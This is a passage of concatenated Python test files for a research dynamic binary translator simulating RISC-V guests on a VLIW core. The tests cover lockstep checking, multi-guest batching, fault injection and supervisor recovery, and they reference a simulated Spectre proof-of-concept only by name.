    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
data:
    .dword 3, 1, 4, 1, 5, 9, 2, 6
    .dword 5, 3, 5, 8, 9, 7, 9, 3
    .space 256
"""


@pytest.mark.parametrize("policy", ALL_POLICIES)
def test_clean_run_has_no_divergence(policy):
    report = lockstep_run(assemble(PROGRAM), policy=policy,
                          memory_check_interval=8)
    assert report.ok, report.divergence and report.divergence.describe()
    assert report.blocks_executed > 10


def test_kernel_lockstep():
    program = build_kernel_program(SMALL_SIZES["gemm"]())
    report = lockstep_run(program)
    assert report.ok


def test_register_fault_detected():
    def corrupt(system, block_index):
        if block_index == 20:
            system.core.regs.write(10, 0xDEAD)  # clobber a0

    report = lockstep_run(assemble(PROGRAM), fault_injector=corrupt)
    assert not report.ok
    assert report.divergence.kind == "registers"
    assert report.divergence.block_index == 20
    assert any("a0" in line for line in report.divergence.details)
    assert "divergence" in report.divergence.describe()


def test_memory_fault_detected():
    def corrupt(system, block_index):
        if block_index == 16:
            base = system.program.symbol("data")
            system.memory.poke(base + 128, 0x77, 1)

    report = lockstep_run(assemble(PROGRAM), fault_injector=corrupt,
                          memory_check_interval=4)
    assert not report.ok
    assert report.divergence.kind == "memory"
    assert "0x77" in report.divergence.details[0]


def test_pc_fault_detected():
    def corrupt(system, block_index):
        if block_index == 10 and not system.exited:
            system.pc = system.program.entry  # warp back to the start

    report = lockstep_run(assemble(PROGRAM), fault_injector=corrupt)
    assert not report.ok
    assert report.divergence.kind in ("pc", "registers")
