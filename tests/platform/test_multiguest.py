"""Batched multi-guest execution: sweep row identity, pool keying and
gating, drain semantics, and warm-worker reuse through the serve path.

The bit-identity of individual co-hosted guests is gated by the batched
legs of ``test_fastpath_differential.py``; this file covers the
orchestration contracts layered on top.
"""

import dataclasses

import pytest

from repro.dbt.engine import DbtEngineConfig
from repro.dbt.pool import TranslationPool, superblock_key
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.obs.observer import Observer
from repro.platform.comparison import comparison_json
from repro.platform.multiguest import MultiGuestHost
from repro.platform.parallel import DrainRequested, sweep_comparisons
from repro.platform.system import DbtSystem

KERNELS = ("atax", "gemm")


@pytest.fixture(scope="module")
def workloads():
    return [(name, build_kernel_program(SMALL_SIZES[name]()))
            for name in KERNELS]


@pytest.fixture(scope="module")
def baseline_rows(workloads):
    return comparison_json(sweep_comparisons(workloads))


def test_batched_sweep_rows_identical(workloads, baseline_rows):
    """`sweep_comparisons(batched=True)` must emit byte-identical rows
    to the per-point path — cold pool and warm pool alike."""
    pool = TranslationPool()
    cold = comparison_json(sweep_comparisons(workloads, batched=True,
                                             pool=pool))
    assert cold == baseline_rows
    installs_after_cold = pool.stats.installs
    warm = comparison_json(sweep_comparisons(workloads, batched=True,
                                             pool=pool))
    assert warm == baseline_rows
    # The warm pass reused the cold pass's artifacts instead of
    # installing a second copy of everything.
    assert pool.stats.installs == installs_after_cold
    assert pool.stats.hits > 0


def test_batched_sweep_creates_pool_when_none_given(workloads,
                                                    baseline_rows):
    assert comparison_json(
        sweep_comparisons(workloads, batched=True)) == baseline_rows


def test_batched_sweep_checkpoints_and_resumes(tmp_path, workloads,
                                               baseline_rows):
    """Batched points persist to the memo cache / checkpoint as their
    guests exit, and a resumed batched sweep replays them."""
    checkpoint = tmp_path / "sweep.jsonl"
    cache_dir = tmp_path / "cache"
    first = comparison_json(sweep_comparisons(
        workloads, batched=True, cache_dir=cache_dir,
        checkpoint=checkpoint))
    assert first == baseline_rows
    assert checkpoint.exists()
    # Resume: everything is served from the checkpoint; a fresh pool
    # sees no guests at all.
    pool = TranslationPool()
    resumed = comparison_json(sweep_comparisons(
        workloads, batched=True, cache_dir=cache_dir,
        checkpoint=checkpoint, pool=pool))
    assert resumed == baseline_rows
    assert pool.stats.guests == 0


def test_batched_sweep_drain_abandons_unfinished_guests(tmp_path,
                                                        workloads):
    """A drain mid-batch raises DrainRequested; finished guests are
    checkpointed, unfinished ones re-run on resume."""
    checkpoint = tmp_path / "sweep.jsonl"
    calls = {"n": 0}

    def drain_after_two_quanta():
        # The small kernels exit within one 256-block quantum, so two
        # turns finish (and checkpoint) two guests before the drain
        # abandons the remaining six.
        calls["n"] += 1
        return calls["n"] > 2

    with pytest.raises(DrainRequested):
        sweep_comparisons(workloads, batched=True, checkpoint=checkpoint,
                          should_drain=drain_after_two_quanta)
    assert checkpoint.exists()
    # The drained sweep resumes to completion (and to the same rows).
    resumed = comparison_json(sweep_comparisons(
        workloads, batched=True, checkpoint=checkpoint))
    assert resumed == comparison_json(sweep_comparisons(workloads))


def test_pool_sharding_keys_on_program_policy_and_config():
    atax = build_kernel_program(SMALL_SIZES["atax"]())
    gemm = build_kernel_program(SMALL_SIZES["gemm"]())
    pool = TranslationPool()
    from repro.security.policy import MitigationPolicy
    from repro.vliw.config import VliwConfig

    base = pool.shard(atax, MitigationPolicy.UNSAFE, VliwConfig(), None)
    assert pool.shard(atax, MitigationPolicy.UNSAFE, VliwConfig(),
                      None) is base
    # None and an explicit default engine config are the same class.
    assert pool.shard(atax, MitigationPolicy.UNSAFE, VliwConfig(),
                      DbtEngineConfig()) is base
    # Any of program / policy / engine config changing splits the shard.
    assert pool.shard(gemm, MitigationPolicy.UNSAFE, VliwConfig(),
                      None) is not base
    assert pool.shard(atax, MitigationPolicy.GHOSTBUSTERS, VliwConfig(),
                      None) is not base
    assert pool.shard(atax, MitigationPolicy.UNSAFE, VliwConfig(),
                      DbtEngineConfig(chain=True)) is not base


def test_superblock_key_separates_paths_and_kinds():
    key = superblock_key(4, (4, 8), 12, "optimized")
    assert key != superblock_key(4, (4, 8), 12, "reoptimized")
    assert key != superblock_key(4, (4, 16), 12, "optimized")
    assert key != superblock_key(4, (4, 8), None, "optimized")


def test_pool_gated_off_under_observer_but_guest_counted():
    """An observer disables artifact sharing for that guest (host-side
    phase spans must match a solo run) while dbt.pool.guests still
    counts it, so the gate is observable."""
    program = build_kernel_program(SMALL_SIZES["atax"]())
    pool = TranslationPool()
    host = MultiGuestHost(pool=pool)
    host.add_guest(program)  # seeds the pool
    host.add_guest(program, observer=Observer())
    host.run_all()
    assert pool.stats.guests == 2
    # Only the bare guest installed; the observed guest neither hit nor
    # installed anything.
    assert pool.stats.hits == 0
    assert len(pool) == 1


def test_pool_counters_publish_to_registry():
    from repro.obs.registry import MetricsRegistry

    program = build_kernel_program(SMALL_SIZES["atax"]())
    pool = TranslationPool()
    host = MultiGuestHost(pool=pool)
    host.add_guest(program)
    host.add_guest(program)
    host.run_all()
    registry = MetricsRegistry()
    pool.publish(registry)
    assert registry.get("dbt.pool.guests").value == 2
    assert registry.get("dbt.pool.installs").value == pool.stats.installs
    assert registry.get("dbt.pool.hits").value == pool.stats.hits
    assert pool.stats.hits > 0


def test_run_slice_quantum_and_tier_shutdown():
    """run_slice stops at the quantum without exiting, finishes the
    guest on a later slice, and shuts tier machinery down exactly once."""
    program = build_kernel_program(SMALL_SIZES["atax"]())
    system = DbtSystem(program)
    assert system.run_slice(1) is False
    assert system.blocks_executed >= 1
    while not system.run_slice(512):
        pass
    assert system.exited
    assert system._tiers_finished
    system.finish_tiers()  # idempotent
    solo = DbtSystem(program).run()
    result = system.result()
    assert result.cycles == solo.cycles
    assert result.instructions == solo.instructions
    assert dataclasses.asdict(result.engine) == dataclasses.asdict(solo.engine)


@pytest.mark.parametrize("timing", ("scalar", "vector"))
def test_quantum_never_changes_rows(workloads, baseline_rows, timing):
    """``--quantum`` (and the timing engine) only move host work around
    in time: batched sweep rows are byte-identical across pathological
    and default quanta, on both timing engines."""
    for quantum in (1, 7, 256):
        rows = comparison_json(sweep_comparisons(
            workloads, batched=True, timing=timing, quantum=quantum))
        assert rows == baseline_rows, (timing, quantum)


def test_vector_timing_sweep_rows_identical(workloads, baseline_rows):
    """The vector timing engine's rows equal the per-point scalar path,
    and the lane counters reach the pool for publication."""
    from repro.obs.registry import MetricsRegistry

    pool = TranslationPool()
    rows = comparison_json(sweep_comparisons(
        workloads, batched=True, pool=pool, timing="vector"))
    assert rows == baseline_rows
    assert pool.lane_counters["mem.cache.lane.lanes"] > 0
    assert pool.lane_counters["mem.cache.lane.entries"] > 0
    registry = MetricsRegistry()
    pool.publish(registry)
    assert (registry.get("mem.cache.lane.lanes").value
            == pool.lane_counters["mem.cache.lane.lanes"])


def test_host_validates_timing_and_quantum():
    with pytest.raises(ValueError):
        MultiGuestHost(timing="simd")
    with pytest.raises(ValueError):
        MultiGuestHost(quantum=0)


def test_serve_batched_job_defaults_to_vector_timing(workloads):
    """A pooled (batched) serve sweep job runs on the vector engine by
    default, returns rows identical to the serial path, and honors a
    payload-level scalar opt-out; unknown timings are rejected at
    submit time."""
    from repro.serve.jobs import JobError, execute_job, validate_payload

    payload = {"kind": "sweep", "kernels": ["atax"],
               "policies": ["unsafe", "ghostbusters"]}
    pool = TranslationPool()
    vector = execute_job(dict(payload), pool=pool)
    assert pool.lane_counters.get("mem.cache.lane.lanes", 0) > 0
    scalar_pool = TranslationPool()
    scalar = execute_job(dict(payload, timing="scalar"), pool=scalar_pool)
    assert scalar == vector
    assert scalar_pool.lane_counters == {}
    assert execute_job(dict(payload)) == vector  # serial path
    with pytest.raises(JobError):
        validate_payload(dict(payload, timing="simd"))


def test_serve_execute_job_reuses_worker_pool():
    """The serve fleet's warm workers pass a worker-lifetime pool into
    execute_job: a repeated job stops re-translating and returns the
    identical result."""
    from repro.serve.jobs import execute_job

    payload = {"kind": "sweep", "kernels": ["atax"],
               "policies": ["unsafe", "ghostbusters"]}
    pool = TranslationPool()
    first = execute_job(dict(payload), pool=pool)
    hits_after_first = pool.stats.hits
    assert pool.stats.installs > 0
    second = execute_job(dict(payload), pool=pool)
    assert second == first
    assert pool.stats.hits > hits_after_first
    # And the pooled result matches the pool-less (cold) path.
    assert execute_job(dict(payload)) == first
