"""Platform integration tests: syscalls, run loop, statistics."""

import pytest

from repro.isa.assembler import assemble
from repro.dbt.engine import DbtEngineConfig
from repro.platform.system import (
    DbtSystem,
    GuestBreakpoint,
    PlatformConfig,
    PlatformError,
    run_on_platform,
)
from repro.security.policy import ALL_POLICIES, MitigationPolicy

from ..conftest import run_both


def test_exit_code():
    result = run_on_platform(assemble("""
    li a0, 33
    li a7, 93
    ecall
"""))
    assert result.exit_code == 33


def test_write_output():
    result = run_on_platform(assemble("""
    li a7, 64
    li a0, 1
    la a1, msg
    li a2, 3
    ecall
    li a7, 93
    li a0, 0
    ecall
.data
msg:
    .asciz "abc"
"""))
    assert result.output == b"abc"


def test_ebreak_raises():
    with pytest.raises(GuestBreakpoint):
        run_on_platform(assemble("ebreak"))


def test_unknown_syscall():
    with pytest.raises(PlatformError, match="unknown syscall"):
        run_on_platform(assemble("""
    li a7, 123
    ecall
"""))


def test_block_budget():
    program = assemble("""
spin:
    j spin
""")
    system = DbtSystem(program, platform_config=PlatformConfig(max_blocks=50))
    with pytest.raises(PlatformError, match="block budget"):
        system.run()


def test_cycle_budget():
    program = assemble("""
spin:
    j spin
""")
    system = DbtSystem(program, platform_config=PlatformConfig(max_cycles=100))
    with pytest.raises(PlatformError, match="cycle budget"):
        system.run()


def test_matches_interpreter_on_all_policies():
    source = """
_start:
    li a0, 0
    li t0, 0
    li t1, 30
head:
    slli t2, t0, 3
    la t3, data
    add t3, t3, t2
    ld t4, 0(t3)
    add a0, a0, t4
    sd a0, 0(t3)
    addi t0, t0, 1
    rem t5, t0, t1
    blt t0, t1, head
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
data:
    .space 256
"""
    for policy in ALL_POLICIES:
        run_both(source, policy)


def test_statistics_populated():
    result = run_on_platform(assemble("""
    li t0, 0
    li t1, 40
head:
    addi t0, t0, 1
    blt t0, t1, head
    li a0, 0
    li a7, 93
    ecall
"""))
    assert result.cycles > 0
    assert result.instructions > 0
    assert result.blocks_executed > 0
    assert 0 < result.ipc < 8
    assert result.engine.first_pass_translations >= 2
    summary = result.summary()
    assert "cycles" in summary and "DBT" in summary


def test_memory_accessors():
    program = assemble("""
    li a7, 93
    li a0, 0
    ecall
.data
blob:
    .dword 0x1122334455667788
""")
    system = DbtSystem(program)
    assert system.read_symbol("blob", 8) == (0x1122334455667788).to_bytes(8, "little")
    system.write_memory(program.symbol("blob"), b"\x01")
    assert system.read_memory(program.symbol("blob"), 1) == b"\x01"


def test_rdcycle_visible_to_guest():
    result = run_on_platform(assemble("""
    rdcycle t0
    rdcycle t1
    sub a0, t1, t0
    li a7, 93
    ecall
"""))
    assert result.exit_code >= 1


def test_stepping_exited_guest_fails():
    system = DbtSystem(assemble("""
    li a7, 93
    li a0, 0
    ecall
"""))
    system.run()
    with pytest.raises(PlatformError):
        system.step_block()


def test_reference_interpreter_skips_install_finalization():
    """Regression: with ``interpreter="reference"`` the translation
    cache still ran the fast-path finalizer on every install — pure
    wasted host work, since the reference loop never reads the
    finalized form.  The platform now unhooks the finalizer for
    reference runs; behaviour is unchanged."""
    from repro.kernels import SMALL_SIZES, build_kernel_program

    program = build_kernel_program(SMALL_SIZES["atax"]())
    reference = DbtSystem(program, interpreter="reference")
    assert reference.engine.cache.finalizer is None
    result = reference.run()
    # No installed block was pre-decoded.
    blocks = list(reference.engine.cache.blocks())
    assert blocks
    for block in blocks:
        assert getattr(block, "_finalized", None) is None
    # The fast path still finalizes at install, and both sides agree.
    fast = DbtSystem(program)
    assert fast.engine.cache.finalizer is not None
    fast_result = fast.run()
    for block in fast.engine.cache.blocks():
        assert getattr(block, "_finalized", None) is not None
    assert (result.exit_code, result.output, result.cycles,
            result.instructions, result.rollbacks) == \
        (fast_result.exit_code, fast_result.output, fast_result.cycles,
         fast_result.instructions, fast_result.rollbacks)
