"""The chaos matrix end to end: every site fired, detected, recovered,
bit-identical — the acceptance criterion CI gates on."""

from repro.resilience.chaos import format_chaos_table, run_chaos_matrix
from repro.resilience.faults import TRACE_SITES, FaultSite


def test_chaos_matrix_all_ok(tmp_path):
    outcomes = run_chaos_matrix(seed=0, work_dir=tmp_path)
    table = format_chaos_table(outcomes)
    assert all(outcome.ok for outcome in outcomes), "\n" + table
    # Every named fault site appears in the matrix.
    assert {outcome.site for outcome in outcomes} == set(FaultSite)
    # Engine sites run on both a kernel and the attack PoC.
    scenarios = {outcome.scenario for outcome in outcomes}
    assert any(s.startswith("kernel:") for s in scenarios)
    assert any(s.startswith("attack:") for s in scenarios)
    # The table renders one scored row per cell.
    assert table.count(" ok") >= len(outcomes)


def test_chaos_matrix_all_ok_chained(tmp_path):
    """The full matrix again with block chaining on: every mid-chain
    fault — including injector evictions of the very block the
    dispatcher is about to jump to — must still be detected, recovered
    and bit-identical (``repro chaos --chain``)."""
    outcomes = run_chaos_matrix(seed=0, work_dir=tmp_path, chain=True)
    table = format_chaos_table(outcomes)
    assert all(outcome.ok for outcome in outcomes), "\n" + table
    assert {outcome.site for outcome in outcomes} == set(FaultSite)


def test_chaos_matrix_without_trace_cells(tmp_path):
    """``repro chaos --no-trace`` drops exactly the tier-4 cells; every
    original site still runs and passes."""
    outcomes = run_chaos_matrix(seed=0, work_dir=tmp_path, trace=False)
    table = format_chaos_table(outcomes)
    assert all(outcome.ok for outcome in outcomes), "\n" + table
    assert ({outcome.site for outcome in outcomes}
            == set(FaultSite) - set(TRACE_SITES))
