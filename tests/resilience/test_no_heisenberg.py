"""The no-Heisenberg contract: supervision must not perturb the model.

Two halves:

* **disabled** — a platform without a supervisor runs the exact seed
  code path: the core's guard is off, the engine hooks are dead
  branches, and dispatch goes straight to the unguarded interpreter;
* **enabled, fault-free** — attaching a supervisor with no fault
  injector changes *nothing observable*: exit code, output bytes,
  instruction count and cycle count are all bit-identical, across every
  policy, on kernels and on the Spectre PoC alike.
"""

import pytest

from repro.attacks.harness import AttackVariant, build_attack_program
from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.system import DbtSystem
from repro.resilience import ExecutionSupervisor
from repro.security.policy import ALL_POLICIES, MitigationPolicy

ENGINE_CONFIG = DbtEngineConfig(hot_threshold=4)


def _fingerprint(result):
    return (result.exit_code, result.output, result.instructions,
            result.cycles, result.blocks_executed, result.rollbacks)


def test_disabled_supervisor_leaves_seed_path():
    program = build_kernel_program(SMALL_SIZES["atax"]())
    system = DbtSystem(program, engine_config=ENGINE_CONFIG)
    assert system.supervisor is None
    assert system.engine.supervisor is None
    assert system.core.guard_faults is False


def test_attach_flips_the_guard():
    program = build_kernel_program(SMALL_SIZES["atax"]())
    supervisor = ExecutionSupervisor()
    system = DbtSystem(program, engine_config=ENGINE_CONFIG,
                       supervisor=supervisor)
    assert system.engine.supervisor is supervisor
    assert system.core.guard_faults is True


@pytest.mark.parametrize("policy", ALL_POLICIES,
                         ids=[p.value for p in ALL_POLICIES])
@pytest.mark.parametrize("kernel", ("atax", "gemm"))
def test_faultfree_supervised_kernel_identical(kernel, policy):
    program = build_kernel_program(SMALL_SIZES[kernel]())
    bare = DbtSystem(program, policy=policy,
                     engine_config=ENGINE_CONFIG).run()
    supervisor = ExecutionSupervisor()
    supervised = DbtSystem(program, policy=policy,
                           engine_config=ENGINE_CONFIG,
                           supervisor=supervisor).run()
    assert _fingerprint(supervised) == _fingerprint(bare)
    assert supervisor.stats.detections == 0
    assert supervisor.stats.recoveries == 0
    # The gate did run — supervision is active, just unobservable.
    assert supervisor.stats.installs_verified > 0


@pytest.mark.parametrize("policy",
                         (MitigationPolicy.UNSAFE,
                          MitigationPolicy.GHOSTBUSTERS),
                         ids=("unsafe", "ghostbusters"))
def test_faultfree_supervised_attack_identical(policy):
    program = build_attack_program(AttackVariant.SPECTRE_V1)
    bare = DbtSystem(program, policy=policy,
                     engine_config=ENGINE_CONFIG).run()
    supervised = DbtSystem(program, policy=policy,
                           engine_config=ENGINE_CONFIG,
                           supervisor=ExecutionSupervisor()).run()
    assert _fingerprint(supervised) == _fingerprint(bare)
