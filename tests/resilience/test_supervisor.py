"""Execution supervisor: detection, quarantine, the degradation ladder.

The core contract per engine fault site: the fault fires, the
supervisor *detects* it (without consulting the injector), *recovers*,
and the recovered run is bit-identical in architectural state (exit
code + output bytes) to a fault-free reference.  Cycles are excluded —
recovery legitimately costs time.
"""

import pytest

from repro.attacks.harness import AttackVariant, build_attack_program
from repro.dbt.engine import DbtEngineConfig
from repro.isa.assembler import assemble
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.lockstep import lockstep_run
from repro.platform.system import DbtSystem
from repro.resilience import (
    ENGINE_SITES,
    ExecutionSupervisor,
    FaultInjector,
    FaultSite,
    ResilienceError,
    SupervisorConfig,
)
from repro.resilience.faults import corrupt_schedule, corrupt_translated_block
from repro.security.policy import MitigationPolicy

ENGINE_CONFIG = DbtEngineConfig(hot_threshold=4)


@pytest.fixture(scope="module")
def atax():
    return build_kernel_program(SMALL_SIZES["atax"]())


@pytest.fixture(scope="module")
def atax_reference(atax):
    return DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                     engine_config=ENGINE_CONFIG).run()


@pytest.mark.parametrize("site", ENGINE_SITES,
                         ids=[site.value for site in ENGINE_SITES])
def test_site_detected_recovered_identical(site, atax, atax_reference):
    injector = FaultInjector(seed=0, sites=[site])
    supervisor = ExecutionSupervisor(injector=injector)
    # The codegen site only has something to corrupt on the compiled
    # tier (the chaos matrix pins this the same way); the tiers are
    # bit-identical architecturally, so the fast-tier reference serves.
    interpreter = "compiled" if site is FaultSite.CODEGEN_CORRUPT else None
    result = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                       engine_config=ENGINE_CONFIG,
                       interpreter=interpreter,
                       supervisor=supervisor).run()
    assert injector.fired, "fault never fired — the scenario proves nothing"
    assert supervisor.stats.detections >= len(injector.fired)
    assert supervisor.stats.recoveries >= len(injector.fired)
    assert result.exit_code == atax_reference.exit_code
    assert result.output == atax_reference.output


def test_attack_survives_fastpath_corruption():
    """The Spectre PoC still recovers its secret after the fast-path
    lowering of a hot block is poisoned mid-attack."""
    program = build_attack_program(AttackVariant.SPECTRE_V1)
    reference = DbtSystem(program, policy=MitigationPolicy.UNSAFE,
                          engine_config=ENGINE_CONFIG).run()
    injector = FaultInjector(seed=0, sites=[FaultSite.FASTPATH_CORRUPT])
    supervisor = ExecutionSupervisor(injector=injector)
    result = DbtSystem(program, policy=MitigationPolicy.UNSAFE,
                       engine_config=ENGINE_CONFIG,
                       supervisor=supervisor).run()
    assert injector.fired
    assert supervisor.stats.recoveries >= 1
    assert result.output == reference.output  # the leaked bytes too


# ---------------------------------------------------------------------------
# The extended (tier-3) degradation ladder.
# ---------------------------------------------------------------------------

def test_codegen_poison_recovers_on_refinalize(atax, atax_reference):
    """A poisoned compiled function dies with the finalized form: the
    refinalize rung produces a fresh, uncompiled lowering that the
    tiering fallback runs on the fast interpreter."""
    injector = FaultInjector(seed=0, sites=[FaultSite.CODEGEN_CORRUPT])
    supervisor = ExecutionSupervisor(injector=injector)
    result = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                       engine_config=ENGINE_CONFIG, interpreter="compiled",
                       supervisor=supervisor).run()
    assert injector.fired
    assert supervisor.stats.ladder.get("refinalize", 0) >= 1
    assert result.exit_code == atax_reference.exit_code
    assert result.output == atax_reference.output


def test_compiled_ladder_reaches_retranslate(atax, atax_reference):
    """A corrupted translation fails every interpreter; on the compiled
    tier the walk takes all four rungs (refinalize, fastpath, reference,
    retranslate) before the quarantine-and-retranslate heals it."""
    injector = FaultInjector(seed=0, sites=[FaultSite.TCACHE_CORRUPT])
    supervisor = ExecutionSupervisor(injector=injector)
    result = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                       engine_config=ENGINE_CONFIG, interpreter="compiled",
                       supervisor=supervisor).run()
    assert injector.fired
    assert supervisor.stats.ladder.get("retranslate", 0) >= 1
    assert supervisor.stats.quarantines >= 1
    assert result.exit_code == atax_reference.exit_code
    assert result.output == atax_reference.output


def test_compiled_ladder_needs_its_fourth_rung(atax):
    """With only three retries the compiled ladder never reaches
    retranslate for a corrupted translation — the reason the default
    ``max_block_retries`` is the extended ladder's length."""
    injector = FaultInjector(seed=0, sites=[FaultSite.TCACHE_CORRUPT])
    supervisor = ExecutionSupervisor(
        SupervisorConfig(max_block_retries=3), injector=injector)
    with pytest.raises(ResilienceError):
        DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                  engine_config=ENGINE_CONFIG, interpreter="compiled",
                  supervisor=supervisor).run()


# ---------------------------------------------------------------------------
# The install-time legality gate.
# ---------------------------------------------------------------------------

def _gate_fixture(atax):
    """A real optimized schedule plus everything gate_schedule needs."""
    from repro.dbt.scheduler import SchedulerOptions, schedule_block

    system = DbtSystem(atax, policy=MitigationPolicy.UNSAFE,
                       engine_config=ENGINE_CONFIG)
    system.run()
    engine = system.engine
    entries = [block.guest_entry for block in engine.cache.blocks()
               if block.kind == "optimized" and block.speculative_loads]
    assert entries
    entry = entries[0]
    ir = engine.build_ir_for(entry)
    options = engine.scheduler_options()
    clean = lambda: schedule_block(ir, engine.vliw_config, options)
    safe = lambda: schedule_block(
        ir, engine.vliw_config,
        SchedulerOptions(branch_speculation=False, memory_speculation=False,
                         max_speculative_loads=0))
    return entry, ir, engine.vliw_config, clean, safe


def test_gate_passes_clean_schedule(atax):
    entry, ir, vliw_config, clean, safe = _gate_fixture(atax)
    supervisor = ExecutionSupervisor()
    block = clean()
    assert supervisor.gate_schedule(entry, ir, block, vliw_config,
                                    clean, safe) is block
    assert supervisor.stats.installs_verified == 1
    assert supervisor.stats.gate_failures == 0


def test_gate_rejects_and_reschedules(atax):
    entry, ir, vliw_config, clean, safe = _gate_fixture(atax)
    supervisor = ExecutionSupervisor()
    corrupt = clean()
    assert corrupt_schedule(corrupt) is not None
    installed = supervisor.gate_schedule(entry, ir, corrupt, vliw_config,
                                         clean, safe)
    assert installed is not corrupt
    assert supervisor.stats.gate_failures == 1
    assert supervisor.stats.ladder.get("reschedule") == 1


def test_gate_falls_back_to_safe_schedule(atax):
    entry, ir, vliw_config, clean, safe = _gate_fixture(atax)
    supervisor = ExecutionSupervisor()

    def corrupt_reschedule():
        block = clean()
        corrupt_schedule(block)
        return block

    corrupt = corrupt_reschedule()
    installed = supervisor.gate_schedule(entry, ir, corrupt, vliw_config,
                                         corrupt_reschedule, safe)
    assert supervisor.stats.gate_failures == 2
    assert supervisor.stats.ladder.get("schedule_safe") == 1
    assert installed.speculative_loads == 0


def test_gate_error_when_even_safe_fails(atax):
    entry, ir, vliw_config, clean, safe = _gate_fixture(atax)
    supervisor = ExecutionSupervisor()

    def corrupt_reschedule():
        block = clean()
        corrupt_schedule(block)
        return block

    with pytest.raises(ResilienceError):
        supervisor.gate_schedule(entry, ir, corrupt_reschedule(),
                                 vliw_config, corrupt_reschedule,
                                 corrupt_reschedule)


def test_conflict_retranslation_passes_install_gate():
    """Regression: ``retranslate_without_memory_speculation`` used to
    install its rebuilt schedule directly, bypassing the supervisor's
    install-time legality gate that every ``optimize()`` install passes
    through.  Under supervision, *every* optimized-generation install —
    initial optimization and conflict retranslation alike — must be
    verified."""
    program = build_attack_program(AttackVariant.SPECTRE_V4)
    supervisor = ExecutionSupervisor()
    system = DbtSystem(
        program, policy=MitigationPolicy.UNSAFE,
        engine_config=DbtEngineConfig(hot_threshold=16,
                                      conflict_retranslate_threshold=3),
        supervisor=supervisor)
    system.run()
    engine = system.engine
    assert engine.stats.conflict_retranslations >= 1
    gated_installs = (engine.stats.optimizations
                      + engine.stats.conflict_retranslations)
    # One gate verification per optimized/reoptimized install; before
    # the fix the retranslated installs were missing from this count.
    assert supervisor.stats.installs_verified == gated_installs
    victim = engine.cache.get(program.symbol("victim"))
    assert victim is not None and victim.kind == "reoptimized"


def test_gate_disabled_installs_anything(atax):
    entry, ir, vliw_config, clean, safe = _gate_fixture(atax)
    supervisor = ExecutionSupervisor(SupervisorConfig(verify_installs=False))
    corrupt = clean()
    corrupt_schedule(corrupt)
    assert supervisor.gate_schedule(entry, ir, corrupt, vliw_config,
                                    clean, safe) is corrupt
    assert supervisor.stats.installs_verified == 0


# ---------------------------------------------------------------------------
# Ladder exhaustion and eviction bookkeeping.
# ---------------------------------------------------------------------------

def test_ladder_exhaustion_raises(atax):
    """With zero retries, the first execution fault is terminal."""
    injector = FaultInjector(seed=0, sites=[FaultSite.TCACHE_CORRUPT])
    supervisor = ExecutionSupervisor(
        SupervisorConfig(max_block_retries=0), injector=injector)
    with pytest.raises(ResilienceError):
        DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                  engine_config=ENGINE_CONFIG, supervisor=supervisor).run()
    assert supervisor.stats.execution_faults >= 1
    assert supervisor.stats.recoveries == 0


def test_execution_fault_rolls_back_architectural_state(atax):
    """The guarded core restores registers/memory/counters, so the
    recovered run ends with the same exit code as an unfaulted one even
    though a block blew up mid-flight (covered per site above; this
    pins the cycle restoration specifically)."""
    injector = FaultInjector(seed=0, sites=[FaultSite.FASTPATH_CORRUPT])
    supervisor = ExecutionSupervisor(injector=injector)
    system = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                       engine_config=ENGINE_CONFIG, supervisor=supervisor)
    result = system.run()
    assert injector.fired
    # The failed attempt's cycles were rolled back: instret matches the
    # reference interpreter count exactly (every instruction retired once).
    reference = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                          engine_config=ENGINE_CONFIG).run()
    assert result.instructions == reference.instructions


def test_capacity_flush_not_misreported_as_eviction(atax):
    """Legitimate wholesale code-cache flushes are not anomalies."""
    config = DbtEngineConfig(hot_threshold=4, code_cache_capacity=4)
    supervisor = ExecutionSupervisor()
    system = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                       engine_config=config, supervisor=supervisor)
    result = system.run()
    assert system.engine.cache.stats.capacity_flushes > 0
    assert supervisor.stats.evictions_detected == 0
    reference = DbtSystem(atax, policy=MitigationPolicy.GHOSTBUSTERS,
                          engine_config=config).run()
    assert (result.exit_code, result.output, result.cycles) == \
        (reference.exit_code, reference.output, reference.cycles)


# ---------------------------------------------------------------------------
# Lockstep divergence reporting.
# ---------------------------------------------------------------------------

LOCKSTEP_PROGRAM = """
_start:
    li a0, 0
    li t0, 0
    li t1, 50
    la t2, data
head:
    andi t3, t0, 15
    slli t3, t3, 3
    add t3, t2, t3
    ld t4, 0(t3)
    add a0, a0, t4
    addi t0, t0, 1
    blt t0, t1, head
    andi a0, a0, 0x7f
    li a7, 93
    ecall
.data
data:
    .dword 3, 1, 4, 1, 5, 9, 2, 6
    .dword 5, 3, 5, 8, 9, 7, 9, 3
"""


def test_lockstep_divergence_quarantines():
    def corrupt(system, block_index):
        if block_index == 20:
            system.core.regs.write(10, 0xDEAD)

    supervisor = ExecutionSupervisor()
    report = lockstep_run(assemble(LOCKSTEP_PROGRAM),
                          fault_injector=corrupt, supervisor=supervisor)
    assert not report.ok
    assert report.divergence.kind == "registers"
    assert supervisor.stats.divergences == 1
    assert supervisor.stats.quarantines == 1


def test_lockstep_clean_run_reports_nothing():
    supervisor = ExecutionSupervisor()
    report = lockstep_run(assemble(LOCKSTEP_PROGRAM), supervisor=supervisor)
    assert report.ok
    assert supervisor.stats.divergences == 0
    assert supervisor.stats.detections == 0
