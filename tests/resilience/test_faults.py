"""Fault injector: determinism, firing bounds, refund, corruption helpers."""

import random

import pytest

from repro.dbt.engine import DbtEngineConfig
from repro.kernels import SMALL_SIZES, build_kernel_program
from repro.platform.system import DbtSystem
from repro.resilience.faults import (
    ENGINE_SITES,
    RUNNER_SITES,
    SERVE_SITES,
    TRACE_SITES,
    FaultInjector,
    FaultSite,
    WorkerFault,
    apply_worker_fault,
